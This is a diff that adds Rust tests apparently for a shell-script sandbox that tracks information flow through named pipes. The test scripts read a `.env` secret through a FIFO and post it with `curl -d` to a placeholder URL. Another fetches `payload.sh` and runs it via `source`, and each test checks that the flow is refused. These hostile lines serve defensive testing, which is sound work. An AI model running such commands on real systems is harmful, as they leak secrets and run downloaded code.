@@ -208,3 +208,34 @@ fn benign_a_networked_program_that_fetched_nothing_writes_a_fifo_that_runs() {
         r.dump()
     );
 }
+
+#[test]
+fn a_redirection_reads_a_fifo_a_program_writes_a_secret_into() {
+    // `read x < ff` opens the FIFO itself (no utility): its label must follow
+    // the writer's too (registered at open, raised as its stdin brings more).
+    let a = arena();
+    let r = a.run(&a.script(&format!(
+        "{MKFIFO}\n(sleep 1; cat .env) | {OPEN_THEN_READ}\nread -r x < ff\nwait\ncurl -s -d \"$x\" {{URL}}/x"
+    )));
+    r.assert_refused(FLOW);
+    a.server.assert_nothing_received(&r);
+}
+
+/// A background python3 that opens the FIFO `ff` first, then reads its stdin
+/// (the secret, a second late) and writes it reversed: its label rises after
+/// the reader's open returned.
+const OPEN_THEN_READ: &str = r#"python3 -c '
+import sys, time
+f = open("ff", "w")
+time.sleep(0.5)
+f.write(sys.stdin.read()[::-1])' &"#;
+
+#[test]
+fn a_sourced_fifo_a_program_writes_a_download_into_is_refused() {
+    let a = arena();
+    let r = a.run(&a.script(&format!(
+        "curl -s {{URL}}/payload.sh -o dl.sh\n{MKFIFO}\n{LATE_COPY_TO_FIFO}\nsource ff\ntouch after"
+    )));
+    r.assert_refused(FLOW);
+    assert!(!a.exists("pwned"), "the payload ran:\n{}", r.dump());
+}
